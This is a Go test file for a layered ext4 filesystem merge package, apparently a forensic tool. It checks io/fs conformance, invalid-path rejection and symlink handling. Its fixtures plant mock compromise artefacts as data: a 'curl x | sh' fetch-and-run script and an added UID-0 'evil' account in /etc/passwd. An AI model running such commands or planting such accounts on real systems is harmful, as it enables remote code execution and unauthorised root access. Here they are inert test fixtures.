package layers_test

import (
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"testing/fstest"

	"github.com/ctrlift/ctrlift/image/ext4"
	"github.com/ctrlift/ctrlift/internal/testutil"
	"github.com/ctrlift/ctrlift/layers"
)

// symlinkFreeImage makes an ext4 image with mkfs.ext4 -d holding two
// layer trees, upper/ and lower/, without symlinks or whiteouts: the
// conformance checker of testing/fstest cannot skip its checks, and a
// symlink (which the merge never follows) or a whiteout would trip it
// for reasons of design, tested on their own below and in oracle_test.go.
func symlinkFreeImage(t *testing.T) *ext4.FS {
	t.Helper()
	testutil.NeedTools(t, "mkfs.ext4")
	src := t.TempDir()
	files := map[string]string{
		"lower/etc/passwd":       "root:x:0:0::/root:/bin/sh\n",
		"lower/etc/motd":         "welcome\n",
		"lower/usr/bin/tool":     "#!/bin/sh\n",
		"lower/var/empty/.keep":  "",
		"upper/etc/passwd":       "root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n",
		"upper/tmp/dropped.sh":   "curl x | sh\n",
		"upper/usr/bin/new-tool": "#!/bin/sh\necho\n",
	}
	for p, data := range files {
		full := filepath.Join(src, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	img := filepath.Join(t.TempDir(), "fs.img")
	if out, err := exec.Command("mkfs.ext4", "-q", "-F", "-d", src, img, "4M").CombinedOutput(); err != nil {
		t.Fatalf("mkfs.ext4: %v\n%s", err, out)
	}
	fsys, err := ext4.Open(img)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fsys.Close() })
	return fsys
}

func TestFSConformance(t *testing.T) {
	fsys := symlinkFreeImage(t)
	t.Run("ext4", func(t *testing.T) {
		if err := fstest.TestFS(fsys, "lower/etc/passwd", "upper/tmp/dropped.sh", "lost+found"); err != nil {
			t.Error(err)
		}
	})
	t.Run("merged", func(t *testing.T) {
		m, err := layers.New([]layers.Layer{{FS: fsys.Source(), Dir: "upper", Name: "upper"}, {FS: fsys.Source(), Dir: "lower", Name: "lower"}}, layers.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if err := fstest.TestFS(m, "etc/passwd", "etc/motd", "tmp/dropped.sh", "usr/bin/tool", "usr/bin/new-tool", "var/empty/.keep"); err != nil {
			t.Error(err)
		}
		if b, err := fs.ReadFile(m, "etc/passwd"); err != nil || string(b) != "root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n" {
			t.Errorf("etc/passwd from the upper layer: %q %v", b, err)
		}
	})
}

// Merged.Open takes io/fs paths only: unrooted, slash-separated, no ".",
// ".." or empty elements.
func TestMergedInvalidPaths(t *testing.T) {
	fsys := symlinkFreeImage(t)
	m, err := layers.New([]layers.Layer{{FS: fsys.Source(), Dir: "upper"}, {FS: fsys.Source(), Dir: "lower"}}, layers.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/etc", "etc/", "etc/.", "./etc", "etc//passwd", "etc/../etc", "..", ""} {
		_, err := m.Open(p)
		if !errors.Is(err, fs.ErrInvalid) {
			t.Errorf("Open(%q): %v, want fs.ErrInvalid", p, err)
		}
		if _, err := m.Stat(p); !errors.Is(err, fs.ErrInvalid) {
			t.Errorf("Stat(%q): %v", p, err)
		}
	}
	// Non-UTF-8 names are valid: evidence is kept byte-exact.
	if _, err := m.Open("etc/\xff"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Open of a non-UTF-8 name: %v, want fs.ErrNotExist", err)
	}
}

// The designed exception to io/fs: the merge never follows a symlink, so
// Stat is Lstat, and a path through a symlink is not resolved.
func TestMergedStatIsLstat(t *testing.T) {
	testutil.NeedTools(t, "mkfs.ext4")
	src := t.TempDir()
	os.MkdirAll(filepath.Join(src, "top/etc"), 0o755)
	os.WriteFile(filepath.Join(src, "top/etc/passwd"), []byte("x"), 0o644)
	os.Symlink("/etc", filepath.Join(src, "top/hostetc"))
	img := filepath.Join(t.TempDir(), "fs.img")
	if out, err := exec.Command("mkfs.ext4", "-q", "-F", "-d", src, img, "4M").CombinedOutput(); err != nil {
		t.Fatalf("mkfs.ext4: %v\n%s", err, out)
	}
	fsys, err := ext4.Open(img)
	if err != nil {
		t.Fatal(err)
	}
	defer fsys.Close()
	m, err := layers.New([]layers.Layer{{FS: fsys.Source(), Dir: "top"}}, layers.Options{})
	if err != nil {
		t.Fatal(err)
	}
	fi, err := m.Stat("hostetc")
	if err != nil || fi.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("Stat(hostetc): %v %v, want the symlink itself", fi, err)
	}
	if target, err := m.ReadLink("hostetc"); err != nil || target != "/etc" {
		t.Errorf("ReadLink: %q %v", target, err)
	}
	if _, err := m.Open("hostetc/passwd"); err == nil || !errors.Is(err, layers.ErrNotDir) {
		t.Errorf("Open through a symlink: %v, want ErrNotDir", err)
	}
}
